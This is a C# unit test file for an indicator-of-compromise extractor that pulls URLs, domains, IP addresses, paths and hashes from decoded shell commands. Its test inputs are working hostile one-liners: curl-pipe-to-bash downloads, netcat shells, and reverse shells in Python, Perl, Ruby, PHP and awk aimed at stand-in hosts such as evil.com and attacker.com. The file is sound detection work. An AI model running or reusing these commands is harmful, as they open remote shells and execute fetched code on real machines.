using System.Collections.Generic;
using System.Linq;
using B64Hunt.Iocs;
using B64Hunt.Model;
using Xunit;
using static B64Hunt.Tests.Iocs.IocTestSupport;

namespace B64Hunt.Tests.Iocs
{
    public class IocExtractorTests
    {
        private const string Command =
            "curl -s http://evil.com/a.sh|bash; nc 93.184.216.34 4444 -e /bin/sh; echo d41d8cd98f00b204e9800998ecf8427e";

        [Fact]
        public void IndicatorsComeInTextOrderOnePerTypeAndNormalisedValue()
        {
            var found = Extract(Command + "; ping evil.com");
            Assert.Equal(new[]
            {
                "url:http://evil.com/a.sh", "dns:evil.com", "ipv4:93.184.216.34", "linux_path:/bin/sh",
                "md5_hash:d41d8cd98f00b204e9800998ecf8427e",
            }, found.Select(i => i.ToString()).ToArray());
        }

        [Fact]
        public void TypesRestrictTheResult()
        {
            var found = Extract(Command, IocTypes.Dns | IocTypes.Md5Hash);
            Assert.Equal(new[] { "dns:evil.com", "md5_hash:d41d8cd98f00b204e9800998ecf8427e" }, found.Select(i => i.ToString()).ToArray());
            Assert.Empty(Extract(Command, IocTypes.None));
            Assert.Empty(Extract(null));
            Assert.Empty(Extract(""));
        }

        [Fact]
        public void EachCallReturnsFreshObjects()
        {
            var first = Extract(Command);
            first[0].Normalized = "changed";
            var second = Extract(Command);
            Assert.Equal("http://evil.com/a.sh", second[0].Normalized);
            Assert.Null(second[0].Event);
        }

        [Fact]
        public void AddToFillsTheEventWithoutDuplicatingWhatIsThere()
        {
            var commandEvent = new CommandEvent
            {
                CommandLine = "echo Y3VybCAuLi4= | base64 -d | sh # seen on 8.8.4.4",
                DecodedCommand = Command,
            };
            commandEvent.Iocs.Add(new Ioc { Type = "dns", Value = "evil.com", Normalized = "evil.com" });

            var added = Extractor.AddTo(commandEvent);
            Assert.Equal(4, added.Count);
            Assert.Equal(5, commandEvent.Iocs.Count);
            Assert.Single(commandEvent.Iocs, i => i.Type == "dns");
            Assert.DoesNotContain(commandEvent.Iocs, i => i.Normalized == "8.8.4.4");

            Assert.Empty(Extractor.AddTo(commandEvent));
            var fromCommandLine = Extractor.AddTo(commandEvent, includeCommandLine: true);
            Assert.Equal(new[] { "ipv4:8.8.4.4" }, fromCommandLine.Select(i => i.ToString()).ToArray());
            Assert.All(commandEvent.Iocs, i => Assert.Null(i.Event));
        }

        [Fact]
        public void TheSameTextWithOtherTypesIsNotServedFromTheMemo()
        {
            Assert.Equal(new[] { "dns" }, Extract(Command, IocTypes.Dns).Select(i => i.Type).ToArray());
            Assert.Equal(new[] { "ipv4" }, Extract(Command, IocTypes.Ipv4).Select(i => i.Type).ToArray());
            Assert.Equal(5, Extract(Command).Count);
        }

        [Fact]
        public void ConcurrentExtractionGivesTheSameAnswers()
        {
            var texts = Enumerable.Range(0, 2000).Select(i => $"curl http://h{i % 300}.evil.com/a|sh; nc 93.184.{i % 7}.34 {i}").ToArray();
            var expected = texts.Select(t => string.Join(",", Extract(t).Select(i => i.ToString()))).ToArray();
            var actual = new string[texts.Length];
            System.Threading.Tasks.Parallel.For(0, texts.Length, i => actual[i] = string.Join(",", Extract(texts[i]).Select(x => x.ToString())));
            Assert.Equal(expected, actual);
        }

        [Fact]
        public void ExtractorsAreSharedPerListFile()
        {
            Assert.Same(Extractor, IocExtractor.FromDataDirectory(DataDirectory));
        }

        [Fact]
        public void WithEventMakesATableRow()
        {
            var commandEvent = new CommandEvent { DecodedCommand = "ping evil.com" };
            var row = IocExtractor.WithEvent(Extract("ping evil.com")[0], commandEvent);
            Assert.Same(commandEvent, row.Event);
            Assert.Equal("evil.com", row.Normalized);
        }

        [Fact]
        public void TypeNamesParseAndRejectUnknownNames()
        {
            Assert.Equal(IocTypes.Ipv4 | IocTypes.Sha256Hash, IocTypeNames.Parse(new[] { "ipv4", "SHA256_HASH" }));
            Assert.Equal(10, IocTypeNames.All.Count);
            Assert.Equal(IocTypes.All, IocTypeNames.Parse(IocTypeNames.All));
            Assert.Throws<System.ArgumentException>(() => IocTypeNames.Parse(new[] { "hostname" }));
        }

        [Fact]
        public void ReverseShellOneLinersYieldOnlyTheirRealIndicators()
        {
            var cases = new Dictionary<string, string[]>
            {
                ["python -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"93.184.216.34\",4242));os.dup2(s.fileno(),0);p=subprocess.call([\"/bin/sh\",\"-i\"]);'"] =
                    new[] { "ipv4:93.184.216.34", "linux_path:/bin/sh" },
                ["perl -e 'use Socket;$i=\"93.184.216.34\";$p=1234;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");exec(\"/bin/sh -i\");};'"] =
                    new[] { "ipv4:93.184.216.34", "linux_path:/bin/sh" },
                ["rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc evil.com 4444 >/tmp/f"] =
                    new[] { "linux_path:/tmp/f", "linux_path:/bin/sh", "dns:evil.com" },
                ["wget -qO- https://raw.githubusercontent.com/x/y/main/install.sh | sudo bash -s -- --key=abc"] =
                    new[] { "url:https://raw.githubusercontent.com/x/y/main/install.sh", "dns:raw.githubusercontent.com" },
                ["ruby -rsocket -e'f=TCPSocket.open(\"attacker.com\",1234).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'"] =
                    new[] { "dns:attacker.com", "linux_path:/bin/sh" },
                ["php -r '$sock=fsockopen(\"93.184.216.34\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'"] =
                    new[] { "ipv4:93.184.216.34", "linux_path:/bin/sh" },
                ["awk 'BEGIN{s=\"/inet/tcp/0/evil.com/4444\";while(1){printf \"> \" |& s}}'"] =
                    new[] { "dns:evil.com" },
                ["ps=subprocess.Popen(cmd,stdout=subprocess.PIPE);out=ps.stdout.read();print(socket.AF_INET)"] =
                    new string[0],
            };
            foreach (var pair in cases)
            {
                Assert.Equal(pair.Value, Extract(pair.Key).Select(i => i.ToString()).ToArray());
            }
        }
    }
}
